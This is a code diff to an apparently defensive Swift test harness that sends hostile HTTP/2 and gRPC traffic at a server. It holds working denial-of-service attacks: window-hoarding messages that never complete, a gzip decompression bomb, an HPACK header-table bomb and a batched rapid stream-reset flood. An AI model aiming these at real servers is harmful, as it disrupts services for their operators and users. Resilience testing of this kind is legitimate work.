@@ -29,23 +29,19 @@ extension Attack {
     },
     Attack("hoard", "100 messages of 4 MiB that are never whole") { assault in
       let connections = (0..<assault.connections).compactMap { _ in assault.connect() }
-      let chunk = [UInt8](repeating: 0, count: Frame.maximumPayload)
       for connection in connections {
         for stream in stride(from: 1 as UInt32, to: 200, by: 2) {
           connection.say(open(unary, on: stream))
-          connection.say(Frame(.data, stream: stream, payload: [0, 0, 0x3f, 0xff, 0xff]))
         }
       }
-      // Past every window: what the server does not take, it resets.
-      for round in 0..<4 {
-        for connection in connections where !connection.isClosed {
-          for stream in stride(from: 1 as UInt32, to: 200, by: 2) where round < 3 {
-            connection.say(Frame(.data, stream: stream, payload: chunk))
-          }
-          connection.hear(for: .milliseconds(5))
+      var sent: [Int: Int] = [:]
+      while assault.goesOn, connections.contains(where: { !$0.isClosed }) {
+        for (index, connection) in connections.enumerated() {
+          hoard(on: connection, index, &sent)
+          connection.hear(for: .milliseconds(2))
         }
       }
-      assault.hold(connections)
+      for connection in connections { assault.note(connection) }
     },
     Attack("small-messages", "messages of one byte for handlers that do not read on") { assault in
       let connections = (0..<assault.connections).compactMap { _ in assault.connect() }
@@ -67,13 +63,17 @@ extension Attack {
       assault.hold(connections)
     },
     Attack("gzip-bomb", "messages that are a thousand times as large, inflated") { assault in
-      let bomb = framed(Gzip.compress([UInt8](repeating: 0, count: 64 << 20)), compressed: true)
+      let bomb = framed(Gzip.compress([UInt8](repeating: 0, count: 16 << 20)), compressed: true)
       let chunks = stride(from: 0, to: bomb.count, by: Frame.maximumPayload).map {
         Array(bomb.dropFirst($0).prefix(Frame.maximumPayload))
       }
+      assault.begin()
       try rounds(assault, of: unary, [HeaderField("grpc-encoding", "gzip")], chunks)
     },
-    Attack("header-bomb", "one large entry of HPACK's table, named thousands of times") { assault in
+    Attack(
+      "header-bomb", "one large entry of HPACK's table, named thousands of times",
+      cutOff: .calm("header list")
+    ) { assault in
       let entry =
         [0x40, 1, 0x78, 0x7f, 0xa1, 0x1e] + [UInt8](repeating: 0x61, count: 4000)
         + [UInt8](repeating: 0xbe, count: 12_000)
@@ -97,17 +97,39 @@ extension Attack {
         guard let connection = assault.connect() else { continue }
         var stream: UInt32 = 1
         while assault.goesOn, !connection.isClosed, connection.goAway == nil, stream < 4_000 {
-          connection.say(call(stubborn, on: stream))
+          let streams = (0..<10 as Range<UInt32>).map { stream + 2 * $0 }
+          connection.say(streams.flatMap { call(stubborn, on: $0) })
           sleep(milliseconds: 2)
-          connection.say(reset(stream))
-          stream += 2
-          assault.said(2)
+          connection.say(streams.flatMap { reset($0) })
+          stream += 20
+          assault.said(20)
           connection.hear(for: .milliseconds(1))
         }
         assault.note(connection)
       }
     },
   ]
+
+  /// Sends what the windows allow of each message, and never its last byte.
+  private static func hoard(
+    on connection: HostileConnection, _ index: Int, _ sent: inout [Int: Int]
+  ) {
+    let (initial, whole) = (65_535, 4 << 20)
+    var room = initial + connection.widened[0, default: 0] - sent[index << 32, default: 0]
+    for stream in stride(from: 1 as UInt32, to: 200, by: 2) {
+      let key = index << 32 | Int(stream)
+      let mine = sent[key, default: 0]
+      let window = initial + connection.widened[stream, default: 0] - mine
+      let count = min(room, window, whole - mine, Frame.maximumPayload)
+      guard count > 0 else { continue }
+      var payload = [UInt8](repeating: 0, count: count)
+      if mine == 0 { payload.replaceSubrange(0..<5, with: [0, 0, 0x40, 0, 0]) }
+      guard connection.say(Frame(.data, stream: stream, payload: payload)) else { return }
+      sent[key] = mine + count
+      sent[index << 32, default: 0] += count
+      room -= count
+    }
+  }
 
   /// Calls with these parts of a body, again and again.
   private static func rounds(
